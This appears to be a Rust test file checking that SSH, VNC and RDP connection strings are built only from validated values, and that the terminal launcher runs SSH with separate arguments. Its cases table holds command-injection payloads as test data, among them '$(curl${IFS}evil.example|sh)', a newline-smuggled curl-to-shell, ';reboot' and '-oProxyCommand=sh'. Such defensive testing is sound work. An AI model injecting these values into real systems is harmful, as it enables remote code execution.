//! Ready-to-paste connection strings reach the UI only after the checks of `dbc_api::connect`:
//! a hostile machine owner's values (the simulator's `hostile_connection` fault) come back as
//! data with the field and rule that failed, and no command or address at all.

use crate::common;

use common::{start, SimControl};
use serde_json::{json, Value};

const VM: &str = "DemoVmAlpha0000000001";

/// The demo machine that runs VM.
fn machine_of_vm(ipc: &common::Ipc) -> String {
    let fleet = ipc.ok("fleet", json!({ "fresh": false }));
    fleet
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["tasks"]
                .as_array()
                .unwrap()
                .iter()
                .any(|t| t["task_id"] == VM)
        })
        .unwrap_or_else(|| panic!("no machine with {VM}: {fleet}"))["entry"]["id"]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn hostile_connection_values_never_become_commands() {
    let data = tempfile::tempdir().unwrap();
    let ipc = start(data.path());
    let sim = SimControl::of_demo(&ipc);
    let mid = machine_of_vm(&ipc);
    let get = || {
        ipc.ok(
            "task_get",
            json!({"opts": {"machine_id": mid, "task_id": VM}}),
        )
    };

    // An honest node: checked strings, every value passed.
    let honest = get();
    let d = &honest["detail"];
    let c = &honest["connection"];
    assert_eq!(c["safe"], true, "{honest}");
    let (ip, port, vnc) = (
        d["ssh_ip"].as_str().unwrap(),
        d["ssh_port"].as_str().unwrap(),
        d["vnc_port"].as_str().unwrap(),
    );
    let user = d["user_name"].as_str().unwrap();
    assert_eq!(c["ssh_command"], format!("ssh -p {port} {user}@{ip}"));
    assert_eq!(c["vnc_address"], format!("{ip}:{vnc}"));
    assert_eq!(c["rdp_address"], Value::Null);
    assert!(c["values"]
        .as_array()
        .unwrap()
        .iter()
        .all(|v| v["problem"].is_null()));

    let cases: &[(&str, &str, &str)] = &[
        ("ssh_ip", "1.2.3.4;reboot", "char"),
        ("ssh_ip", "$(curl${IFS}evil.example|sh)", "char"),
        ("ssh_ip", "`reboot`", "char"),
        ("ssh_ip", "1.2.3.4\ncurl evil.example|sh", "control"),
        ("ssh_ip", "1.2.3.4 -oProxyCommand=sh", "space"),
        ("ssh_ip", "moc.live\u{202e}1.2.3.4", "not_ascii"),
        ("user_name", "-oProxyCommand=sh", "leading_dash"),
        ("user_name", "dbc\u{0}", "control"),
        ("ssh_port", "22`id`", "char"),
        ("vnc_port", "5901;id", "char"),
    ];
    for (field, value, rule) in cases {
        sim.clear();
        sim.fault(
            json!({"path": format!("tasks/{VM}"), "kind": "hostile_connection", *field: value}),
        );
        let view = get();
        let c = &view["connection"];
        assert_eq!(c["safe"], false, "{value:?}: {view}");
        for s in ["ssh_command", "rdp_address", "vnc_address"] {
            assert_eq!(c[s], Value::Null, "{value:?}: {s} built from {view}");
        }
        let bad: Vec<&Value> = c["values"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|v| !v["problem"].is_null())
            .collect();
        assert_eq!(bad.len(), 1, "{value:?}: {view}");
        assert_eq!(bad[0]["field"], *field);
        assert_eq!(bad[0]["problem"]["rule"], *rule, "{value:?}");
        assert!(!bad[0]["problem"]["message"].as_str().unwrap().is_empty());
        // The raw value as data, and a display form with nothing invisible in it.
        assert_eq!(bad[0]["raw"], *value);
        let shown = bad[0]["shown"].as_str().unwrap();
        assert!(
            shown.chars().all(|ch| (' '..='~').contains(&ch)),
            "{shown:?}"
        );
        assert_eq!(view["detail"][field], *value);
    }

    // Good values from the node: IPv6 (bracketed in host:port) and host names.
    sim.clear();
    sim.fault(json!({"path": format!("tasks/{VM}"), "kind": "hostile_connection", "ssh_ip": "2001:db8::17"}));
    let c = get()["connection"].clone();
    assert_eq!(c["safe"], true, "{c}");
    assert_eq!(
        c["ssh_command"],
        format!("ssh -p {port} {user}@2001:db8::17")
    );
    assert_eq!(c["vnc_address"], format!("[2001:db8::17]:{vnc}"));
    sim.clear();
    sim.fault(json!({"path": format!("tasks/{VM}"), "kind": "hostile_connection", "ssh_ip": "gpu-7.example.com", "user_name": "first.last"}));
    let c = get()["connection"].clone();
    assert_eq!(
        c["ssh_command"],
        format!("ssh -p {port} first.last@gpu-7.example.com")
    );
    sim.clear();
    assert_eq!(get()["connection"], honest["connection"]);
}

/// "Open" runs SSH in the user's terminal (`$TERMINAL`, here a script that records its
/// arguments) with the checked values only, as separate arguments; hostile values start nothing.
#[test]
fn open_ssh_runs_the_checked_argv_in_the_terminal_and_hostile_values_start_nothing() {
    use std::os::unix::fs::PermissionsExt;
    let data = tempfile::tempdir().unwrap();
    let rec = data.path().join("terminal-args");
    let term = data.path().join("fake-terminal");
    std::fs::write(
        &term,
        format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > {}\n", rec.display()),
    )
    .unwrap();
    std::fs::set_permissions(&term, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::env::set_var("TERMINAL", &term);

    let ipc = start(data.path());
    let sim = SimControl::of_demo(&ipc);
    let mid = machine_of_vm(&ipc);
    let d = ipc.ok(
        "task_get",
        json!({"opts": {"machine_id": mid, "task_id": VM}}),
    )["detail"]
        .clone();
    let open = |kind: &str| {
        ipc.call(
            "vm_open",
            json!({"opts": {"machine_id": mid, "task_id": VM, "kind": kind}}),
        )
    };

    let opened = open("ssh").unwrap();
    let target = format!(
        "{}@{}",
        d["user_name"].as_str().unwrap(),
        d["ssh_ip"].as_str().unwrap()
    );
    assert_eq!(
        opened["target"],
        format!("ssh -p {} {target}", d["ssh_port"].as_str().unwrap())
    );
    let mut args = String::new();
    for _ in 0..50 {
        args = std::fs::read_to_string(&rec).unwrap_or_default();
        if !args.is_empty() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let expected = format!(
        "-e\nssh\n-p\n{}\n{target}\n",
        d["ssh_port"].as_str().unwrap()
    );
    assert_eq!(args, expected, "one argument each, no shell");

    // A Linux VM offers no RDP: refused before anything starts.
    let err = open("rdp").unwrap_err();
    assert_eq!(err["code"], "conflict", "{err}");

    // Hostile values: nothing is started.
    std::fs::remove_file(&rec).unwrap();
    sim.fault(json!({"path": format!("tasks/{VM}"), "kind": "hostile_connection", "ssh_ip": "1.2.3.4;reboot"}));
    let err = open("ssh").unwrap_err();
    assert_eq!(err["code"], "conflict", "{err}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(!rec.exists(), "the terminal was not started");
    std::env::remove_var("TERMINAL");
}
